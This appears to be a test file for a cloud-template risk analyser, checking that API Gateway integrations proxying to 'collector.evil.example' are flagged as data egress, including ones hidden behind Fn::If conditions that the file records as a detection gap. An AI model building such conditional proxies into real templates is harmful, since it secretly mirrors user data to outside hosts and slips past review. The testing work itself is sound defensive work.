// Attacker pass 9o (test-only) on the integrations of an inline OpenAPI document
// (src/core/risk/openapi-integration-risks.ts): each `x-amazon-apigateway-integration` must be
// judged as an integration resource is, and one that cannot be read (computed) is `unseen-effect`.
// Attacked: an integration object written as `Fn::If` (CloudFormation resolves intrinsics inside
// `Body`/`DefinitionBody`): a plain object as written, so it passes the "computed" test, but has none
// of the keys read (`uri`, `credentials`, `connectionId`…), so neither branch is judged and no
// reason names it. The level stays high today only because an inline document's authorization is
// not read (`public-access` at `Body`); the reason naming the destination is what is missing.
// Also the forms correctly judged (`Fn::If` around the operation, inside `uri`).
import { describe, expect, it } from '@jest/globals';
import { reasonsOf } from './risk-of.js';

const EVIL = 'https://collector.evil.example/orders';
const HERE = { type: 'mock', requestTemplates: { 'application/json': '{"statusCode": 200}' } };
const OUT = { type: 'http_proxy', httpMethod: 'ANY', uri: EVIL, payloadFormatVersion: '1.0' };
const PARAMS = {
  Parameters: { Mirror: { Type: 'String', AllowedValues: ['yes', 'no'], Default: 'no' } },
  Conditions: { Mirror: { 'Fn::Equals': [{ Ref: 'Mirror' }, 'yes'] } },
};

/** Reasons for one RestApi whose inline Body has GET / with `operation`. */
const restApi = (operation: unknown) =>
  reasonsOf({
    ...PARAMS,
    Resources: {
      Rest: {
        Type: 'AWS::ApiGateway::RestApi',
        Properties: {
          Name: 'orders',
          Body: {
            openapi: '3.0.1',
            info: { title: 'orders', version: '1' },
            paths: { '/': { get: operation } },
          },
        },
      },
    },
  });
const AT = 'Resources.Rest.Properties.Body.paths./.get';
const judged = (reasons: string[]) =>
  reasons.filter((reason) => reason.includes(`${AT}.x-amazon-apigateway-integration`));

describe('attacker 9o: an OpenAPI integration written as Fn::If', () => {
  it('FAULT: an integration Fn::If [Mirror, <HTTP proxy to another host>, <mock>] is judged (data-egress or unseen-effect at the integration)', () => {
    const reasons = restApi({ 'x-amazon-apigateway-integration': { 'Fn::If': ['Mirror', OUT, HERE] } });
    expect(judged(reasons)).not.toEqual([]);
  });

  it('FAULT: an integration computed by Fn::If on both branches to other hosts is judged', () => {
    const reasons = restApi({
      'x-amazon-apigateway-integration': {
        'Fn::If': ['Mirror', OUT, { ...OUT, uri: 'https://other.example/' }],
      },
    });
    expect(judged(reasons).some((reason) => /^(data-egress|unseen-effect) /.test(reason))).toBe(true);
  });

  it('refused: the same HTTP proxy written plainly is data egress at its uri', () => {
    expect(judged(restApi({ 'x-amazon-apigateway-integration': OUT }))).toContain(
      `data-egress ${AT}.x-amazon-apigateway-integration.uri`,
    );
  });

  it('refused: Fn::If around the whole operation still has the HTTP proxy judged', () => {
    const reasons = restApi({
      'Fn::If': [
        'Mirror',
        { 'x-amazon-apigateway-integration': OUT },
        { 'x-amazon-apigateway-integration': HERE },
      ],
    });
    expect(reasons.some((reason) => reason.startsWith('data-egress ') && reason.endsWith('.uri'))).toBe(true);
  });

  it('refused: Fn::If inside the uri (one branch another host) is data egress at the uri', () => {
    const reasons = restApi({
      'x-amazon-apigateway-integration': {
        ...OUT,
        uri: { 'Fn::If': ['Mirror', EVIL, 'https://example.com/'] },
      },
    });
    expect(judged(reasons)).toContain(`data-egress ${AT}.x-amazon-apigateway-integration.uri`);
  });

  it('refused: an integration that is a computed list is unseen', () => {
    const reasons = restApi({ 'x-amazon-apigateway-integration': [OUT] });
    expect(judged(reasons)).toContain(`unseen-effect ${AT}.x-amazon-apigateway-integration`);
  });
});

describe('attacker 9o: OpenAPI integrations whose destination the caller or the stage chooses', () => {
  const swagger = (operation: unknown, method = 'get') =>
    reasonsOf({
      Resources: {
        Rest: {
          Type: 'AWS::ApiGateway::RestApi',
          Properties: {
            Name: 'o',
            Body: { swagger: '2.0', paths: { '/{proxy+}': { [method]: operation } } },
          },
        },
      },
    }).filter((reason) => !reason.startsWith('public-access'));
  const at = (method: string) =>
    `Resources.Rest.Properties.Body.paths./{proxy+}.${method}.x-amazon-apigateway-integration.uri`;

  it('refused: an S3 integration whose bucket the request path names is unresolved at the uri', () => {
    expect(
      swagger({
        'x-amazon-apigateway-integration': {
          type: 'aws',
          httpMethod: 'PUT',
          uri: { 'Fn::Sub': 'arn:aws:apigateway:${AWS::Region}:s3:path/{bucket}/{key}' },
          requestParameters: {
            'integration.request.path.bucket': 'method.request.path.bucket',
            'integration.request.path.key': 'method.request.path.key',
          },
        },
      }),
    ).toEqual([`unresolved-value ${at('get')}`]);
  });

  it.each([
    ['a stage variable', 'https://${stageVariables.backend}/x', {}],
    [
      'a request header',
      'https://{host}/x',
      { 'integration.request.path.host': 'method.request.header.X-Target' },
    ],
  ])(
    'refused: an HTTP proxy whose host %s chooses is data egress at the uri',
    (_what, uri, requestParameters) => {
      expect(
        swagger({
          'x-amazon-apigateway-integration': {
            type: 'http_proxy',
            httpMethod: 'ANY',
            uri,
            requestParameters,
          },
        }),
      ).toEqual([`data-egress ${at('get')}`]);
    },
  );

  it('refused: an integration under x-amazon-apigateway-any-method is judged', () => {
    const method = 'x-amazon-apigateway-any-method';
    expect(
      swagger(
        { 'x-amazon-apigateway-integration': { type: 'http_proxy', httpMethod: 'ANY', uri: EVIL } },
        method,
      ),
    ).toEqual([`data-egress ${at(method)}`]);
  });
});

describe('fix 14e: each Fn::If branch of an integration is judged', () => {
  const INTEGRATION = `${AT}.x-amazon-apigateway-integration`;

  it('an HTTP proxy on a nested Fn::If branch is data egress at that branch', () => {
    const reasons = restApi({
      'x-amazon-apigateway-integration': { 'Fn::If': ['Mirror', HERE, { 'Fn::If': ['Mirror', HERE, OUT] }] },
    });
    expect(judged(reasons)).toContain(`data-egress ${INTEGRATION}.Fn::If[2].Fn::If[2].uri`);
  });

  it('a branch of AWS::NoValue removes the integration: only the other branch is judged', () => {
    const reasons = restApi({
      'x-amazon-apigateway-integration': { 'Fn::If': ['Mirror', OUT, { Ref: 'AWS::NoValue' }] },
    });
    expect(judged(reasons)).toEqual([`data-egress ${INTEGRATION}.Fn::If[1].uri`]);
  });

  it("an HTTP API's reusable integrations map written as Fn::If is judged on each branch", () => {
    const reasons = reasonsOf({
      ...PARAMS,
      Resources: {
        Http: {
          Type: 'AWS::ApiGatewayV2::Api',
          Properties: {
            Body: {
              openapi: '3.0.1',
              info: { title: 'orders', version: '1' },
              paths: {},
              components: {
                'x-amazon-apigateway-integrations': { 'Fn::If': ['Mirror', { out: OUT }, { here: HERE }] },
              },
            },
          },
        },
      },
    });
    expect(reasons).toContain(
      'data-egress Resources.Http.Properties.Body.components.x-amazon-apigateway-integrations.Fn::If[1].out.uri',
    );
  });
});
